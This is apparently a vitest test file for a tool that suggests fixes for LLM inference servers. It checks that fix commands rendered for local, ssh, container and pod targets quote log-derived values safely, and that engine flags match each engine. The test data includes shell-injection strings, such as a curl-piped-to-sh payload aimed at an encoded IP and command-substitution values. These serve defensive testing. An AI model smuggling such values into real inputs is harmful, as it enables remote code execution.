import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { builtinSignatures } from '../signatures/index.js';
import { ENGINES, type Engine } from '../types/diagnosis.js';
import { aimSignature } from './aim-fix.js';
import { ENGINE_SETTINGS } from './engine-options.js';
import { fillActions, fillCommand } from './fill-captures.js';
import type { FixAction, FixEnvironment, FixPlace, FixTarget } from './fix-action.js';

/**
 * Every signature's fix rendered for every place, environment and engine, with every capture set to a
 * hostile value, then read back by a real POSIX shell (`set --`, PATH empty so nothing outside the shell
 * runs): each capture must arrive as one argument, and nothing the log said may run.
 */

const work = mkdtempSync(join(tmpdir(), 'vigil-fix-table-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));
const MARK = join(work, 'ran');
/** The brief's capture, and one that writes a file if any shell runs it (echo is a builtin: PATH is empty). */
const HOSTILE = [
  'tokenizers>=0.21";curl${IFS}2130706433|sh;"',
  `1";echo PWNED>>${MARK};'$(echo PWNED>>${MARK})'\`echo PWNED>>${MARK}\`;"`,
];

const PLACES: Record<string, FixPlace> = {
  local: { kind: 'local' },
  ssh: { kind: 'ssh', host: 'gpu-1' },
  compose: {
    kind: 'container',
    runtime: 'docker',
    name: 'vllm-1',
    compose: { project: 'llm', service: 'vllm' },
  },
  docker: { kind: 'container', runtime: 'docker', name: 'vllm' },
  'docker over ssh': { kind: 'container', runtime: 'podman', name: 'vllm', host: 'gpu-1' },
  pod: { kind: 'pod', name: 'vllm-0', namespace: 'llm', owner: { kind: 'StatefulSet', name: 'vllm' } },
  'pod, owner unknown': { kind: 'pod', name: 'vllm-7d9f-abc' },
};

const venv = (more: Partial<FixEnvironment>): FixEnvironment => ({
  prefix: '/opt/vllm/.venv',
  python: '/opt/vllm/.venv/bin/python',
  isVenv: true,
  installer: 'pip',
  cudaTag: 'cu129',
  conda: false,
  externallyManaged: false,
  ...more,
});
const ENVIRONMENTS: Record<string, FixEnvironment | null> = {
  unknown: null,
  pip: venv({}),
  uv: venv({ installer: 'uv' }),
  conda: venv({ prefix: '/opt/conda/envs/sg', python: '/opt/conda/envs/sg/bin/python', conda: true }),
  'managed system': venv({
    prefix: '/usr',
    python: '/usr/bin/python3.12',
    isVenv: false,
    externallyManaged: true,
  }),
};

/** Synthetic actions of every kind, so each is rendered even before a signature uses it. */
const EVERY_KIND: FixAction[] = [
  { kind: 'install', requirements: ['{c}'], options: ['--force-reinstall'] },
  { kind: 'engine-option', option: 'max-model-len', value: '50784' },
  { kind: 'engine-option', option: 'enforce-eager' },
  { kind: 'stop-process', pid: '4242' },
  { kind: 'free-port', port: '8000', pid: '4242' },
  { kind: 'command', argv: ['ls', '-l', '{c}'], where: 'server' },
  { kind: 'command', argv: ['systemctl', 'status', '{c}'], where: 'host' },
  { kind: 'system-package', packages: ['g++-{c}'] },
  { kind: 'environment-variable', name: 'VLLM_ATTENTION_BACKEND', value: 'TRITON_ATTN', engines: ['vllm'] },
];

/**
 * The arguments a POSIX shell reads from each line (one shell for all: a subshell each), and whether reading
 * them ran anything. A line quoted wrong spoils the whole script, and so every line's words.
 */
function shellWords(lines: readonly string[]): { words: string[][]; ran: boolean } {
  if (lines.length === 0) return { words: [], ran: false };
  rmSync(MARK, { force: true });
  const script = lines.map((line) => `(set -- ${line}\nprintf '%s\\0' "$@")\nprintf '\\1\\0'`).join('\n');
  const result = spawnSync('/bin/sh', ['-c', script], { cwd: work, env: { PATH: '' }, encoding: 'utf8' });
  const words: string[][] = [[]];
  for (const word of result.stdout.split('\0').slice(0, -1)) {
    if (word === '\u0001') words.push([]);
    else words.at(-1)?.push(word);
  }
  return { words: words.slice(0, -1), ran: existsSync(MARK) };
}

const COMMAND =
  /^(?:RUN (?:apt-get update && )?)?(?:ssh|pip|uv|conda|docker|podman|kubectl|kill|ss|sudo|apt-get|ls|systemctl|nvidia-smi|df|ray|huggingface-cli|git|ollama|\/\S*python\S*) /;

/** Every command line of a fix, read as the shell it is printed for reads it (ssh: twice). */
function readCommands(lines: readonly string[]): string[][] {
  const commands = lines
    .filter((l) => COMMAND.test(l))
    .map((l) => l.replace(/^RUN (?:apt-get update && )?/, ''));
  const outer = shellWords(commands);
  expect(outer.ran, commands.join('\n')).toBe(false);
  expect(outer.words, commands.join('\n')).toHaveLength(commands.length);
  const remote = outer.words.filter((words) => words[0] === 'ssh');
  for (const words of remote) expect(words, words.join(' ')).toHaveLength(3);
  const inner = shellWords(remote.map((words) => words[2] ?? ''));
  expect(inner.ran, 'over ssh').toBe(false);
  return [...outer.words.filter((words) => words[0] !== 'ssh'), ...inner.words];
}

/** Other engines' flags; long ones only, as llama.cpp's `-c` is also python's and conda's. */
function flagsOfOtherEngines(engine: Engine): string[] {
  const own = new Set(Object.values(ENGINE_SETTINGS[engine]).map((s) => (s && 'flag' in s ? s.flag : '')));
  return ENGINES.filter((e) => e !== engine)
    .flatMap((e) => Object.values(ENGINE_SETTINGS[e]))
    .flatMap((s) => (s !== null && 'flag' in s && !own.has(s.flag) && s.flag.length > 3 ? [s.flag] : []));
}

const withActions = builtinSignatures.filter((s) => s.action !== undefined);

describe.each(Object.entries(PLACES))('a fix for %s', (placeName, place) => {
  describe.each(Object.entries(ENVIRONMENTS))('environment %s', (_envName, environment) => {
    it('for every engine: every action rendered in its shape, every capture one word', () => {
      const checks: (() => void)[] = [];
      const allLines: string[] = [];
      for (const engine of [...ENGINES, null]) {
        const target: FixTarget = { place, environment, engine };
        const cases = [
          { id: 'every kind', action: EVERY_KIND, names: ['c'] },
          ...withActions.map((s) => ({
            id: s.id,
            action: s.action ?? [],
            names: [...JSON.stringify(s.action).matchAll(/\{(\w+)\}/g)].map((m) => m[1] ?? ''),
          })),
        ];
        for (const hostile of HOSTILE) {
          for (const { id, action, names } of cases) {
            const captures = Object.fromEntries(names.map((name) => [name, hostile]));
            const filled = fillActions(action, captures);
            const aimed = aimSignature(
              { id, title: '', category: 'other', explanation: '', fix: 'words', action: filled },
              target,
            );
            const lines = aimed.fix.split('\n');
            allLines.push(...lines, aimed.tryNow ?? '', aimed.verify ?? '');
            // The capture arrives whole, inside one argument, wherever it was printed.
            if (
              action.some((a) => a.kind === 'install' || a.kind === 'system-package' || a.kind === 'command')
            ) {
              checks.push(() =>
                expect(
                  words().some((word) => word.includes(hostile)),
                  `${id}: ${aimed.fix}`,
                ).toBe(true),
              );
            }
            if (place.kind === 'container' || place.kind === 'pod') {
              // The package belongs in the image: no install on the host, a Dockerfile line and a try-now.
              for (const line of lines.filter((l) => /pip install|^(?:sudo )?apt-get install/.test(l)))
                expect(line, id).toMatch(/^RUN /);
              if (lines.some((l) => l.startsWith('RUN '))) expect(aimed.tryNow, id).toMatch(/ exec /);
            } else {
              expect(aimed.fix, id).not.toMatch(/^RUN /m);
            }
            if (placeName === 'ssh') {
              for (const line of lines.filter((l) => COMMAND.test(l)))
                expect(line, id).toMatch(/^ssh gpu-1 (?:'|[\w.-]+$)/);
              if (aimed.verify !== undefined && environment !== null)
                expect(aimed.verify, id).toMatch(/--ssh gpu-1$/);
            }
            if (environment?.externallyManaged === true && (place.kind === 'local' || place.kind === 'ssh')) {
              expect(aimed.fix, id).not.toContain('--break-system-packages');
              // An engine that is no Python package (TGI for an engine: true install) has no install to aim.
              if (/pip install/.test(aimed.fix)) expect(aimed.fix, id).toContain(' -m venv ');
            }
            if (engine === null) continue;
            for (const flag of flagsOfOtherEngines(engine)) {
              expect(aimed.fix, `${id} for ${engine}`).not.toMatch(new RegExp(`(^|\\s)${flag}(?=[\\s=']|$)`));
            }
          }
        }
      }
      // One shell reads every line of the place and environment: the captures arrive whole, nothing runs.
      const read = readCommands([...new Set(allLines)]).flat();
      const words = (): string[] => read;
      for (const check of checks) check();
    });
  });
});

describe('every signature’s words: a capture can never add a command', () => {
  /** The code a fix's words hold: `spans`, and the whole text when it starts with a command. */
  const codeOf = (text: string): string[] => [
    ...[...text.matchAll(/`([^`]+)`/g)].map((m) => m[1] ?? ''),
    ...(COMMAND.test(text) || /^pip /.test(text) ? [text] : []),
  ];
  const placeholders = builtinSignatures.filter((s) => /\{\w+\}/.test(`${s.fix} ${s.alternative ?? ''}`));

  // Backticks would be read as the words' own code marks here; the rendered commands above take them.
  const hostiles = [...HOSTILE.slice(0, 1), `1";echo PWNED>>${MARK};'$(echo PWNED>>${MARK})';"`];
  it.each(placeholders.map((s) => [s.id, s] as const))('%s', (_id, signature) => {
    for (const hostile of hostiles) {
      const names = [...`${signature.fix} ${signature.alternative ?? ''}`.matchAll(/\{(\w+)\}/g)].map(
        (m) => m[1] ?? '',
      );
      const captures = Object.fromEntries(names.map((name) => [name, hostile]));
      for (const template of [signature.fix, signature.alternative ?? '']) {
        for (const code of codeOf(fillCommand(template, captures))) {
          // Only what a shell reads before its first separator in the template itself: `a | b` runs b.
          if (/\bkill\b/.test(code)) continue;
          expect(shellWords([code]).ran, `${signature.id}: ${code}`).toBe(false);
        }
      }
    }
  });
});

describe('every signature’s fix for every place and every engine it serves: the shape', () => {
  const plainCaptures = (text: string): Record<string, string> =>
    Object.fromEntries([...text.matchAll(/\{(\w+)\}/g)].map((m) => [m[1] ?? '', '42']));
  /** A Dockerfile line (bare or in code marks) and the words around it: the one place pip may appear. */
  const withoutImageLines = (text: string): string => text.replace(/RUN [^`\n]*/g, '');
  const shapes = Object.entries(PLACES).flatMap(([placeName, place]) =>
    [venv({}), null].map((environment) => [placeName, place, environment] as const),
  );

  it.each(builtinSignatures.map((s) => [s.id, s] as const))('%s', (_id, signature) => {
    const all = `${signature.fix} ${signature.alternative ?? ''} ${JSON.stringify(signature.action ?? [])}`;
    const captures = plainCaptures(all);
    const described = {
      id: signature.id,
      title: '',
      category: signature.category,
      explanation: '',
      fix: fillCommand(signature.fix, captures),
      ...(signature.action === undefined ? {} : { action: fillActions(signature.action, captures) }),
      ...(signature.alternative === undefined
        ? {}
        : { alternative: fillCommand(signature.alternative, captures) }),
    };
    for (const [placeName, place, environment] of shapes) {
      for (const engine of signature.engines) {
        const aimed = aimSignature(described, { place, environment, engine });
        const where = `${signature.id} for ${engine} at ${placeName}`;
        const text = `${aimed.fix}\n${aimed.alternative ?? ''}`;
        if (place.kind === 'container' || place.kind === 'pod') {
          // The package belongs in the image: no pip on the host, only a Dockerfile line (and a try-now).
          expect(withoutImageLines(text), where).not.toMatch(/\bpip install\b/);
        } else {
          expect(text, where).not.toMatch(/^RUN /m);
        }
        for (const flag of flagsOfOtherEngines(engine)) {
          expect(aimed.fix, where).not.toMatch(new RegExp(`(^|[\\s\`(])${flag}(?=[\\s=\`')]|$)`));
        }
        if (placeName === 'ssh') {
          // A command line runs on the server's host: the whole of it one word after `ssh gpu-1` (quoted unless plain).
          for (const line of aimed.fix.split('\n').filter((l) => COMMAND.test(l))) {
            expect(line, where).toMatch(/^ssh gpu-1 (?:'|[\w.-]+$)/);
          }
          if (aimed.verify !== undefined && environment !== null)
            expect(aimed.verify, where).toMatch(/--ssh gpu-1$/);
        }
      }
    }
  });
});

describe('the engine’s own option names, with the numbers the log gives', () => {
  const local: FixPlace = { kind: 'local' };
  const render = (engine: Engine, action: FixAction): string =>
    aimSignature(
      { id: 'x', title: '', category: 'other', explanation: '', fix: 'words', action: [action] },
      { place: local, environment: null, engine },
    ).fix;
  const length: FixAction = { kind: 'engine-option', option: 'max-model-len', value: '50784' };
  // 15.32 of 22.04 GiB free: 69% of the card, less two points of margin.
  const share: FixAction = {
    kind: 'engine-option',
    option: 'gpu-memory-utilization',
    share: { part: '15.32', whole: '22.04' },
  };
  // 40 heads on 16 GPUs: the largest power of two below 16 that divides 40.
  const shards: FixAction = {
    kind: 'engine-option',
    option: 'tensor-parallel-size',
    value: '16',
    divides: '40',
  };
  it.each<[Engine, string, string | null, string | null]>([
    ['vllm', '--max-model-len 50784', '--gpu-memory-utilization 0.67', '--tensor-parallel-size 8'],
    ['sglang', '--context-length 50784', '--mem-fraction-static 0.67', '--tp-size 8'],
    ['tgi', '--max-total-tokens 50784', '--cuda-memory-fraction 0.67', '--num-shard 8'],
    ['trtllm', '--max_seq_len 50784', '--kv_cache_free_gpu_memory_fraction 0.67', '--tp_size 8'],
    ['llamacpp', '-c 50784', null, null],
    ['ollama', 'OLLAMA_CONTEXT_LENGTH=50784', null, null],
    ['lmdeploy', '--session-len 50784', '--cache-max-entry-count 0.67', '--tp 8'],
  ])('%s', (engine, lengthWords, shareWords, shardWords) => {
    expect(render(engine, length)).toContain(` ${lengthWords} `);
    // An engine without the option: no line of another engine's, the signature's words stand.
    if (shareWords === null) expect(render(engine, share)).toBe('words');
    else expect(render(engine, share)).toContain(` ${shareWords} `);
    if (shardWords === null) expect(render(engine, shards)).toBe('words');
    else expect(render(engine, shards)).toContain(` ${shardWords} `);
  });

  it('llama.cpp’s GPU layers, and a value that is no plain word leaves the words', () => {
    expect(render('llamacpp', { kind: 'engine-option', option: 'gpu-layers', value: '0' })).toContain(
      ' -ngl 0 ',
    );
    expect(render('vllm', { kind: 'engine-option', option: 'max-model-len', value: '1;reboot' })).toBe(
      'words',
    );
  });
});

describe('an engine the log does not show: no one engine’s flag as the fix for all', () => {
  const render = (action: FixAction, place: FixPlace = { kind: 'local' }): string =>
    aimSignature(
      { id: 'x', title: '', category: 'other', explanation: '', fix: 'words', action: [action] },
      { place, environment: null, engine: null },
    ).fix;
  const pod: FixPlace = { kind: 'pod', name: 'p', owner: { kind: 'Deployment', name: 'llm' } };
  it.each<[string, FixAction, FixPlace, RegExp, RegExp]>([
    [
      'a length, on the host',
      { kind: 'engine-option', option: 'max-model-len', value: '50784' },
      { kind: 'local' },
      /^restart the server with the context length set to 50784 \(vLLM --max-model-len 50784, SGLang --context-length 50784, TGI --max-total-tokens 50784, .*Ollama OLLAMA_CONTEXT_LENGTH=50784, LMDeploy --session-len 50784\)$/,
      /^restart the server with --max-model-len/,
    ],
    [
      'a switch, in a pod',
      { kind: 'engine-option', option: 'enforce-eager' },
      pod,
      /^set CUDA graphs off in the pod template's args or env \(vLLM --enforce-eager, SGLang --disable-cuda-graph, TGI --cuda-graphs=0, LMDeploy --eager-mode\)\nkubectl rollout restart deployment\/llm$/,
      /TensorRT-LLM|llama\.cpp/,
    ],
    [
      'an option only vLLM and LMDeploy have (lmdeploy/cli/utils.py)',
      { kind: 'engine-option', option: 'distributed-executor-backend', value: 'mp' },
      { kind: 'container', runtime: 'docker', name: 'srv' },
      /^set the distributed executor set to mp in the container's command or environment \(vLLM --distributed-executor-backend mp, LMDeploy --distributed-executor-backend mp\)/,
      /SGLang/,
    ],
    [
      'the engine’s upgrade',
      { kind: 'install', requirements: [], engine: true, options: ['--upgrade'] },
      { kind: 'local' },
      /^upgrade the engine to a newer release \(its package: vllm, sglang, lmdeploy, tensorrt_llm; or its image or binary\)$/,
      /pip install/,
    ],
    [
      'the engine’s upgrade with a package beside it',
      { kind: 'install', requirements: ['transformers>=4.56'], engine: true, options: ['--upgrade'] },
      { kind: 'local' },
      /^upgrade the engine .*\npip install --upgrade 'transformers>=4.56'$/,
      /install[^\n]* vllm/,
    ],
    [
      'a port held by another process',
      { kind: 'free-port', port: '8000' },
      { kind: 'local' },
      /another port \(the server's port option\)/,
      /--port/,
    ],
    [
      'an engine’s own variable',
      {
        kind: 'environment-variable',
        name: 'VLLM_ATTENTION_BACKEND',
        value: 'TRITON_ATTN',
        engines: ['vllm'],
      },
      { kind: 'local' },
      /^restart the server with VLLM_ATTENTION_BACKEND=TRITON_ATTN \(vLLM\) in its environment$/,
      /SGLang/,
    ],
  ])('%s', (_name, action, place, want, never) => {
    const fix = render(action, place);
    expect(fix).toMatch(want);
    expect(fix).not.toMatch(never);
  });

  it('an engine’s own variable is left out for another engine', () => {
    const aimed = aimSignature(
      {
        id: 'x',
        title: '',
        category: 'other',
        explanation: '',
        fix: 'words',
        action: [{ kind: 'environment-variable', name: 'VLLM_X', value: '1', engines: ['vllm'] }],
      },
      { place: { kind: 'local' }, environment: null, engine: 'sglang' },
    );
    expect(aimed.fix).toBe('words');
  });
});

describe('a command and a system package, where each belongs', () => {
  const render = (action: FixAction, place: FixPlace) =>
    aimSignature(
      { id: 'x', title: '', category: 'other', explanation: '', fix: 'words', action: [action] },
      { place, environment: null, engine: 'vllm' },
    );
  const check: FixAction = { kind: 'command', argv: ['df', '-h', '/root/.cache'], where: 'server' };
  const service: FixAction = {
    kind: 'command',
    argv: ['systemctl', 'enable', '--now', 'nvidia-fabricmanager'],
    where: 'host',
  };
  const headers: FixAction = { kind: 'system-package', packages: ['python3-dev', 'build-essential'] };
  it.each<[string, FixAction, FixPlace, string, string | undefined]>([
    ['a check, local', check, PLACES.local!, 'df -h /root/.cache', undefined],
    ['a check, over ssh', check, PLACES.ssh!, "ssh gpu-1 'df -h /root/.cache'", undefined],
    ['a check, in a container', check, PLACES.docker!, 'docker exec vllm df -h /root/.cache', undefined],
    [
      'a check, in a container over ssh',
      check,
      PLACES['docker over ssh']!,
      "ssh gpu-1 'podman exec vllm df -h /root/.cache'",
      undefined,
    ],
    ['a check, in a pod', check, PLACES.pod!, 'kubectl exec vllm-0 -n llm -- df -h /root/.cache', undefined],
    [
      'a host service, for a container',
      service,
      PLACES['docker over ssh']!,
      "ssh gpu-1 'systemctl enable --now nvidia-fabricmanager'",
      undefined,
    ],
    [
      'a host service, for a pod: on its node',
      service,
      PLACES.pod!,
      "# on the pod's node (kubectl get pod vllm-0 -o wide names it):\nsystemctl enable --now nvidia-fabricmanager",
      undefined,
    ],
    [
      'headers, on the host',
      headers,
      PLACES.local!,
      'sudo apt-get install -y python3-dev build-essential',
      undefined,
    ],
    [
      'headers, for compose: in the image',
      headers,
      PLACES.compose!,
      '# in the image (Dockerfile):\nRUN apt-get update && apt-get install -y --no-install-recommends python3-dev build-essential\ndocker compose -p llm up -d --build vllm',
      'docker exec vllm-1 apt-get install -y python3-dev build-essential',
    ],
  ])('%s', (_name, action, place, fix, tryNow) => {
    const aimed = render(action, place);
    expect(aimed.fix).toBe(fix);
    expect(aimed.tryNow).toBe(tryNow);
  });
});
